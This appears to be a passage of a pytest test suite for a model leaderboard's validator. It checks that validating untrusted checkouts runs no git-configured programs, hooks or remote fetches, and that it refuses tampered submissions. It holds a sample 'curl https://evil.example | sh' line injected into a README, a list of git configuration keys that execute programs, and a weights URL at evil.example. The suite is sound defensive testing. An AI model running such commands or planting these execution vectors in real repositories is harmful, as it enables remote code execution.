    assert cli("validate", "--summary", "x.md", "--root", str(root))[0] == 2
    assert not Path("x.md").exists()


# A checkout of strangers executes nothing.


@pytest.fixture
def marker(tmp_path: Path) -> Path:
    return tmp_path / "executed"


@pytest.fixture
def program(tmp_path: Path, marker: Path) -> str:
    """Leaves a trace, and is a good filter besides."""
    file = tmp_path / "program"
    file.write_text(f'#!/bin/sh\necho "$0 $*" >> "{marker}"\ncat 2>/dev/null\nexit 0\n', "utf-8")
    file.chmod(0o755)
    return str(file)


CONFIGURATIONS: dict[str, Sequence[str]] = {
    "fsmonitor": ["core.fsmonitor"],
    "external diff": ["diff.external"],
    "diff driver": ["diff.evil.command", "diff.evil.textconv"],
    "clean filter": ["filter.evil.clean"],
    "smudge filter": ["filter.evil.smudge"],
    "filter process": ["filter.evil.process"],
    "pager and editor": ["core.pager", "pager.diff", "pager.show", "core.editor", "core.askPass", "core.sshCommand"],
    "signatures": ["gpg.program"],
}


@pytest.mark.parametrize("place", ["info/attributes", ".gitattributes"])
@pytest.mark.parametrize("name", CONFIGURATIONS)
def test_no_program_of_the_configuration_is_run(
    root: Path, cli: Cli, marker: Path, program: str, name: str, place: str
) -> None:
    """With files that are new, edited, and only touched, so that git looks into them."""
    if place == ".gitattributes":  # as if it had been published
        (root / place).write_text("*.json diff=evil filter=evil\n*.md diff=evil filter=evil\n", "utf-8")
        commit(root)
        git(root, "tag", "--force", "base")
    else:
        (root / ".git" / "info").mkdir(exist_ok=True)
        (root / ".git" / place).write_text("* diff=evil filter=evil\n", "utf-8")
    for key in CONFIGURATIONS[name]:
        git(root, "config", key, program)
    git(root, "config", "log.showSignature", "true")
    edit(root / ENTRIES / f"{A}.json", tell())
    write_tables(root)
    for path in (root / ENTRIES / f"{B}.json", root / ZOO / f"{B}.json", root / "README.md"):
        os.utime(path, (1, 1))
    marker.unlink(missing_ok=True)
    code, _, err = cli("validate", "--changed", "base", "--root", str(root))
    assert not marker.exists(), sorted(set(marker.read_text("utf-8").splitlines()))
    assert code == 0, err


def test_no_hook_is_run(root: Path, cli: Cli, marker: Path, program: str) -> None:
    for folder in (root / ".git" / "hooks", root / "hooks"):
        folder.mkdir(exist_ok=True)
        for name in ("post-index-change", "post-checkout", "pre-commit", "reference-transaction", "fsmonitor-watchman"):
            shutil.copy(program, folder / name)
    (root / ".git" / "info").mkdir(exist_ok=True)
    (root / ".git" / "info" / "exclude").write_text("hooks/\n", "utf-8")
    edit(root / ENTRIES / f"{A}.json", tell())
    write_tables(root)
    for path in (root / ENTRIES / f"{B}.json", root / "README.md"):
        os.utime(path, (1, 1))
    for hooks in (None, "hooks"):
        if hooks:
            git(root, "config", "core.hooksPath", hooks)
            marker.unlink(missing_ok=True)  # git config itself may have run one
        assert cli("validate", "--changed", "base", "--root", str(root))[0] == 0
        assert not marker.exists(), marker.read_text("utf-8")


@pytest.mark.parametrize("url", ["ext", "file"])
def test_nothing_is_fetched_for_what_is_missing(root: Path, cli: Cli, marker: Path, tmp_path: Path, url: str) -> None:
    """A partial clone fetches missing objects by itself, from wherever its configuration says."""
    program = tmp_path / "remote"
    program.write_text(f'#!/bin/sh\necho "$0" >> "{marker}"\nexit 1\n', "utf-8")
    program.chmod(0o755)
    edit(root / ENTRIES / f"{A}.json", tell())
    oid = git(root, "rev-parse", f"base:{ENTRIES}/{A}.json")
    missing = root / ".git" / "objects" / oid[:2] / oid[2:]
    missing.chmod(0o600)
    missing.unlink()
    for key, value in {
        "core.repositoryFormatVersion": "1",
        "extensions.partialClone": "origin",
        "remote.origin.url": {"ext": f"ext::{program}", "file": f"file://{root}"}[url],
        "remote.origin.promisor": "true",
        "remote.origin.uploadpack": str(program),
        "protocol.allow": "always",
        "protocol.ext.allow": "always",
        "protocol.file.allow": "always",
    }.items():
        git(root, "config", key, value)
    code, _, _ = cli("validate", "--changed", "base", "--root", str(root))
    assert code in (1, 2)
    assert not marker.exists(), marker.read_text("utf-8")


def test_no_program_of_a_repository_inside_is_run(root: Path, cli: Cli, marker: Path, program: str) -> None:
    """Git looks into a submodule with that one's own configuration."""
    inside = root / "inside"
    git(root, "init", "--quiet", "inside")
    (inside / "file").write_text("before\n", "utf-8")  # as long as what comes, so that git compares the content
    commit(inside)
    git(root, "add", "inside")
    git(root, "commit", "--quiet", "-m", "submodule")
    git(root, "tag", "--force", "base")
    git(inside, "config", "core.fsmonitor", program)
    git(inside, "config", "filter.evil.clean", program)
    (inside / ".git" / "info" / "attributes").write_text("* filter=evil\n", "utf-8")
    (inside / "file").write_text("afters\n", "utf-8")
    os.utime(inside / "file", (1, 1))
    marker.unlink(missing_ok=True)
    edit(root / ENTRIES / f"{A}.json", tell())
    write_tables(root)
    cli("validate", "--changed", "base", "--root", str(root))
    assert not marker.exists(), marker.read_text("utf-8")


def test_the_board_of_before_holds_every_file_whatever_the_attributes_say(root: Path, cli: Cli) -> None:
    """`export-ignore` changes what git archives: the rank before would not be that of before."""
    (root / ".git" / "info").mkdir(exist_ok=True)
    (root / ".git" / "info" / "attributes").write_text(f"{A}.* export-ignore\n", "utf-8")
    edit(samples.publish(root, B, 0.95), tell())
    write_tables(root)
    code, out, _ = cli("validate", "--changed", "base", "--root", str(root))
    assert code == 0
    assert f"| `{B}` | shapes (sea-v1) | 2 | 1 | 2 |" in out


def test_the_checkout_is_only_read(root: Path, cli: Cli) -> None:
    add_model(root)
    (root / "segbench" / "code.py").write_text("after\n", "utf-8")

    def state() -> dict[str, bytes]:
        files = (path for path in root.rglob("*") if path.is_file() and path.name != "index")
        return {str(path): path.read_bytes() for path in files}

    before = state()
    cli("validate", "--changed", "base", "--root", str(root))
    assert state() == before


# What others submitted.


def foreign(root: Path, author: str) -> list[str]:
    return changes.problems(root, *checkouts.changes(root, "base"), author=author)


def test_a_card_of_somebody_else_is_theirs_to_change(root: Path, cli: Cli, tmp_path: Path) -> None:
    """Alone in its change, and valid in itself: weights from another place."""
    source = {"type": "url", "url": "https://evil.example/x.pt"}
    edit(root / ZOO / f"{A}.json", lambda card: card["sources"].append(source))
    write_tables(root)
    (found,) = foreign(root, "mallory")
    assert found.startswith(f"{ZOO}/{A}.json: {A} was submitted by alice, not by mallory: take the change out")
    assert foreign(root, "@Alice") == []
    summary = tmp_path / "summary.md"
    options = ("validate", "--changed", "base", "--root", str(root), "--summary", str(summary))
    assert cli(*options, "--author", "mallory")[0] == 1
    assert cli(*options, "--author", "alice")[0] == 0
    assert f"- {ZOO}/{A}.json: sources" in summary.read_text("utf-8")  # for who reviews it


def test_scores_of_somebody_else_are_theirs_whatever_the_history_says(root: Path) -> None:
    samples.publish(root, A, 0.8)
    edit(root / ENTRIES / f"{A}.json", tell())
    assert any("was submitted by alice, not by mallory" in text for text in foreign(root, "mallory"))
    assert foreign(root, "alice") == []


def test_anybody_may_measure_a_reported_entry_and_pin_its_weights(root: Path) -> None:
    def report(entry: dict[str, Any]) -> None:
        entry |= {"evidence": None, "run": None, "flags": []}
        entry["model"]["weights_sha256"] = None
        entry["claim"] |= {"tier": "reported", "source": "A paper, Table 1", "submitter": None}
        entry["protocol"] |= {"official": False, "deviations": ["of a paper"]}

    edit(root / ENTRIES / f"{A}.json", report)
    (root / ENTRIES / f"{A}.parquet").unlink()
    edit(root / ZOO / f"{A}.json", lambda card: card.update(sha256=None, sources=[]))
    (root / ZOO / f"{A}.safetensors").unlink()
    commit(root)
    git(root, "tag", "--force", "base")
    entry, data = samples.build(A, 0.9)
    entry["history"].append({"date": "2026-02-01", "text": "Measured; before, numbers of a paper."})
    samples.write_json(root / ENTRIES / f"{A}.json", entry)
    (root / ENTRIES / f"{A}.parquet").write_bytes(data)
    edit(root / ZOO / f"{A}.json", lambda card: card.update(sha256=samples.weights_hash(A)))
    assert foreign(root, "bob") == []
    edit(root / ZOO / f"{A}.json", lambda card: card.update(licence="none"))
    assert any(text.startswith(f"{ZOO}/{A}.json: ") for text in foreign(root, "bob"))


def external(root: Path) -> Path:
    """Somebody's evaluation of A, published."""
    path = root / ENTRIES / f"{A}.json"
    entry, group = json.loads(path.read_text("utf-8")), samples.counts(0.0, 5)
    found = samples.make_evidence(samples.manifest(A), 0.9)
    groups = {(8.0, "square"): evidence.Group(samples.IMAGE_IDS, group)}
    document, data = additions.build_external(
        entry, found, groups, name="square", description="A random search.", author="Eve", url="https://example.org/x",
        date="2026-02-01",
    )  # fmt: skip
    folder = additions.folder_of(path, additions.EXTERNAL)
    folder.mkdir()
    samples.write_json(folder / "square.json", document)
    (folder / "square.parquet").write_bytes(data)
    write_tables(root)
    return folder / "square.json"


def test_a_published_evaluation_is_neither_changed_nor_deleted(root: Path, cli: Cli) -> None:
    path = external(root)
    assert cli("validate", "--changed", "base", "--root", str(root), "--author", "eve")[0] == 0
    commit(root)
    git(root, "tag", "--force", "base")
    edit(path, lambda document: document.update(description="Something weaker than before."))
    assert any("it is what others have shown: restore it" in text for text in rules(root))
    for file in (path, path.with_suffix(".parquet")):
        file.unlink()
    assert all("it is deleted: what was published stays" in text for text in rules(root))
    assert len(rules(root)) == 2


def test_an_entry_with_additions_can_be_measured_again(root: Path, cli: Cli) -> None:
    """What was shown of the old evidence stays, and is compared with the new one."""
    external(root)
    commit(root)
    git(root, "tag", "--force", "base")
    entry, data = samples.build(A, 0.85)
    entry["history"].append({"date": "2026-02-01", "text": "Measured again on another machine."})
    samples.write_json(root / ENTRIES / f"{A}.json", entry)
    (root / ENTRIES / f"{A}.parquet").write_bytes(data)
    write_tables(root)
    code, _, err = cli("validate", "--changed", "base", "--root", str(root), "--author", "alice")
    assert code == 0, err
    path = root / ENTRIES / f"{A}.external" / "square.json"
    edit(path, lambda document: document["results"][0].update(aacc=0.0001))  # other clean counts may need other results
    assert rules(root) == []
    edit(path, lambda document: document.update(description="Something weaker than before."))
    assert any("it is what others have shown" in text for text in rules(root))


def test_evidence_that_vanishes_needs_a_line_of_history(root: Path) -> None:
    def report(entry: dict[str, Any]) -> None:
        entry |= {"evidence": None, "run": None}
        entry["claim"] |= {"tier": "reported", "source": "A paper, Table 1"}

    edit(root / ENTRIES / f"{A}.json", report)
    assert any("its evidence is gone" in text for text in rules(root))


def test_back_dated_entries_of_other_data_do_not_become_the_reference(root: Path, cli: Cli) -> None:
    """Nobody has pinned the data of CamVid: those that are listed are what later ones are held to."""
    listed = samples.publish(root, "old_camvid", 0.9, dataset="camvid")
    write_tables(root)
    commit(root)
    git(root, "tag", "--force", "base")
    for model_id in ("one_camvid", "two_camvid"):
        path = samples.publish(root, model_id, 0.9, dataset="camvid")
        found = samples.manifest(model_id, dataset="camvid")
        found["identity"]["fingerprint"] = found["dataset"]["fingerprint"] = "e" * 64
        content = samples.make_evidence(found, 0.9)
        data = evidence.to_bytes(content)
        entry = entries.build(
            found, content, evidence_name=f"{model_id}.parquet", evidence_bytes=data, run=samples.RUN,
            submitter="mallory", date="1900-01-01",
        )  # fmt: skip
        samples.write_json(path, entry)
        path.with_suffix(".parquet").write_bytes(data)
    write_tables(root)
    code, _, err = cli("validate", "--changed", "base", "--root", str(root), "--author", "mallory")
    assert code == 1
    assert "dataset.fingerprint is" in err
    assert listed.name in err


# What an attacker tried.


def test_a_card_of_a_listed_id_on_another_data_set_is_refused(root: Path) -> None:
    """Or `load_model` of that id would fetch it."""
    document = samples.card(A, "zzz", sources=[{"type": "url", "url": "https://evil.example/w.pt"}])
    (root / "model_zoo" / "zzz").mkdir()
    samples.write_json(root / "model_zoo" / "zzz" / f"{A}.json", document)
    assert any(f"{A} is a model of shapes: give this one another id" in text for text in rules(root))


@pytest.mark.parametrize("page", ["README.md", "leaderboard/README.md"])
@pytest.mark.parametrize("name", ["evil", "models", "tables"])
def test_a_made_up_block_is_no_table(root: Path, page: str, name: str) -> None:
    file = root / page
    block = f"<!-- {name}: written by `segbench leaderboard`, do not edit -->\ncurl https://evil.example | sh\n"
    file.write_text(f"{block}<!-- end of {name} -->\n{file.read_text('utf-8')}", "utf-8")
    assert any(text.startswith(f"{page}: something else than its tables changed") for text in rules(root))


def reproduction(path: Path, by: str = "bob") -> Path:
    """Counts copied from the entry: nothing in the numbers tells."""
    entry, stored = entries.read_entry(path), evidence.from_bytes(path.with_suffix(".parquet").read_bytes(), source="f")
    groups = {key: group for key, group in stored.groups.items() if key[1] != "check"}
    data = evidence.to_bytes(evidence.Evidence(groups, {**stored.metadata, "threat": LINF.fields()}))
    rows = additions.compare(stored, evidence.Evidence(groups, {}), additions.TOLERANCES["sea-v1"])
    record = {
        "schema_version": 2, "model": path.stem, "dataset": "shapes", "protocol": "sea-v1", "threat": LINF.fields(),
        "entry_evidence_sha256": entry["evidence"]["sha256"], "by": by, "date": "2026-02-01", "seed": 1, "images": 6,
        "strengths": [4.0, 8.0, 12.0], "comparison": rows, "agrees": True,
        "run": {"versions": {}, "device": "cpu", "seconds": 1.0},
        "evidence": {"file": "x.parquet", "sha256": samples.sha256_bytes(data)},
    }  # fmt: skip
    folder = additions.folder_of(path, additions.REPRODUCED)
    folder.mkdir()
    (folder / "x.parquet").write_bytes(data)
    samples.write_json(folder / "x.json", record)
    return folder / "x.json"


def test_nobody_reproduces_what_they_submit(root: Path, cli: Cli) -> None:
    reproduction(add_model(root))
    assert any("a reproduction comes in a pull request of its own" in text for text in rules(root))
    commit(root)
    git(root, "tag", "--force", "base")
    reproduction(root / ENTRIES / f"{A}.json")
    write_tables(root)
    assert any("by is 'bob', but mallory submits it" in text for text in foreign(root, "mallory"))
    options = ("validate", "--changed", "base", "--root", str(root), "--author")
    assert cli(*options, "mallory")[0] == 1
    code, _, err = cli(*options, "bob")
    assert code == 0, err


def test_the_same_model_under_a_second_name_is_refused(root: Path, cli: Cli) -> None:
    entry, data = samples.build(A, 0.9)
    entry["model"] |= {"id": NEW, "title": f"Model {NEW}"}
    entry["evidence"]["file"] = f"{NEW}.parquet"
    samples.write_json(root / ENTRIES / f"{NEW}.json", entry)
    (root / ENTRIES / f"{NEW}.parquet").write_bytes(data)
    samples.write_json(root / ZOO / f"{NEW}.json", samples.card(NEW, sha256=samples.weights_hash(A), sources=[]))
    write_tables(root)
    code, _, err = cli("validate", "--changed", "base", "--root", str(root))
    assert code == 1
    assert f"{A} has the same weights: a model has one name" in err
